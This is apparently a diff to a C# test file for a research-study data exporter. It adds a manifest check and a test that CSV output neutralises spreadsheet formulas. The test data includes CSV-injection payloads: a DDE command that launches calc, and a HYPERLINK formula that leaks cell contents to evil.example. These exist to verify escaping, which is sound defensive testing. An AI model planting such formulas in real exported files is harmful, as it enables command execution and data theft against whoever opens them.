@@ -1,3 +1,4 @@
+using Microsoft.EntityFrameworkCore;
 using System.IO.Compression;
 using System.Text;
 using System.Text.Json;
@@ -108,11 +109,71 @@ public class StudyExportTests
         using var zipBytes = new MemoryStream();
         await StudyExportEndpoints.WriteZipAsync(zipBytes, t.Exporter, l, false, false, default);
         using var zip = new ZipArchive(new MemoryStream(zipBytes.ToArray()));
-        Assert.Equal(new[] { "README.md", "events.csv", "participants.csv", "questionnaires.csv", "study.json" }.Order(StringComparer.Ordinal),
+        Assert.Equal(new[] { "README.md", "events.csv", "manifest.json", "participants.csv", "questionnaires.csv", "study.json" }.Order(StringComparer.Ordinal),
             zip.Entries.Select(e => e.FullName).Order(StringComparer.Ordinal));
+        // the last entry is the manifest, and its row counts match the files
+        Assert.Equal(StudyExportEndpoints.ManifestName, zip.Entries[^1].FullName);
+        using var manifest = JsonDocument.Parse(zip.GetEntry(StudyExportEndpoints.ManifestName)!.Open());
+        Assert.True(manifest.RootElement.GetProperty("complete").GetBoolean());
+        foreach (var file in new[] { "events.csv", "participants.csv", "questionnaires.csv" })
+        {
+            using var entry = new MemoryStream();
+            await zip.GetEntry(file)!.Open().CopyToAsync(entry);
+            Assert.Equal(ReadCsv(entry.ToArray()).Count, manifest.RootElement.GetProperty("rows").GetProperty(file).GetInt64());
+        }
+        var counts = doc.RootElement.GetProperty("row_counts");
+        Assert.Equal((1, 38, n), (counts.GetProperty("participants").GetInt32(), counts.GetProperty("answers").GetInt32(), counts.GetProperty("events").GetInt64()));
         using var readme = new StreamReader(zip.GetEntry("README.md")!.Open());
         var codebook = await readme.ReadToEndAsync();
         foreach (var column in StudyExportWriter.EventColumns.Concat(StudyExportWriter.AnswerColumns).Concat(StudyExportWriter.ParticipantColumns))
             Assert.Contains(column, codebook);
+    }
+
+    [Fact]
+    public async Task Formula_looking_answers_and_names_are_escaped_in_every_csv()
+    {
+        await using var t = new StudyTestDb();
+        var study = await t.OpenStudyAsync();
+        await using (var db = await t.Factory.CreateDbContextAsync())
+            await db.StudyTasks.ExecuteUpdateAsync(u => u.SetProperty(x => x.Title, "=cmd|' /C calc'!A0"));
+        string[] formulas = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "+1+2", "-2+3", "@SUM(A1:A9)"];
+        var people = await t.Store.GenerateAsync(study.Id, formulas.Length);
+        for (var i = 0; i < people.Count; i++)
+        {
+            var code = people[i].Code;
+            Assert.Null(await t.Flow.ConsentAsync(code));
+            while ((await t.Flow.FindAsync(code))!.Phase is var phase && phase != ParticipantPhase.Done)
+            {
+                var view = (await t.Flow.FindAsync(code))!;
+                if (phase == ParticipantPhase.Instructions) await t.Flow.StartTaskAsync(code);
+                else if (phase == ParticipantPhase.Workspace) await t.Flow.FinishTaskAsync(code);
+                else
+                {
+                    // the free-text answer of the end questionnaire is what the participant typed
+                    var answers = StudyTestDb.Answers(view);
+                    foreach (var item in view.Questionnaire.Where(q => q.Type == ItemType.FreeText)) answers[item.Id] = new QuestionnaireResponse(null, formulas[i]);
+                    Assert.Null(await t.Flow.SubmitQuestionnaireAsync(code, answers));
+                }
+            }
+        }
+        var l = (await t.Exporter.LoadAsync(study.Id, new ExportScope(), default))!;
+        using var answersCsv = new MemoryStream();
+        await StudyExportWriter.WriteAnswersCsvAsync(answersCsv, t.Exporter.AnswersAsync(l, default), default);
+        var texts = ReadCsv(answersCsv.ToArray()).Where(r => r["instrument"] == Instruments.Text).Select(r => r["text"]).ToList();
+
+        Assert.Equal(formulas.Length, texts.Count);
+        Assert.All(texts, text => Assert.StartsWith("'", text)); // a spreadsheet shows it as text
+        Assert.Equal(formulas.Select(f => "'" + f.Trim()).Order(StringComparer.Ordinal), texts.Order(StringComparer.Ordinal));
+        Assert.All(ReadCsv(answersCsv.ToArray()).Where(r => r["task"] != ""), r => Assert.Equal("'=cmd|' /C calc'!A0", r["task"]));
+        Assert.Contains(ReadCsv(answersCsv.ToArray()), r => r["value"] == "50"); // numbers stay numbers
+
+        using var eventsCsv = new MemoryStream();
+        await StudyExportWriter.WriteEventsCsvAsync(eventsCsv, t.Exporter.EventsAsync(l, default), default);
+        Assert.All(ReadCsv(eventsCsv.ToArray()).Where(r => r["task"] != ""), r => Assert.Equal("'=cmd|' /C calc'!A0", r["task"]));
+        // answers are trimmed when stored, so a leading tab or CR can only come from elsewhere: the writer escapes them too
+        using var hidden = new MemoryStream();
+        await StudyExportWriter.WriteAnswersCsvAsync(hidden, new[] { "\t=1+1", "\r=1+1" }.Select(x =>
+            new AnswerExportRow("P001", "Real", null, null, null, Instruments.Text, "c", 1, null, x, 0, false)).ToAsyncEnumerable(), default);
+        Assert.Equal(["'\t=1+1", "'\r=1+1"], ReadCsv(hidden.ToArray()).Select(r => r["text"]));
     }
 }
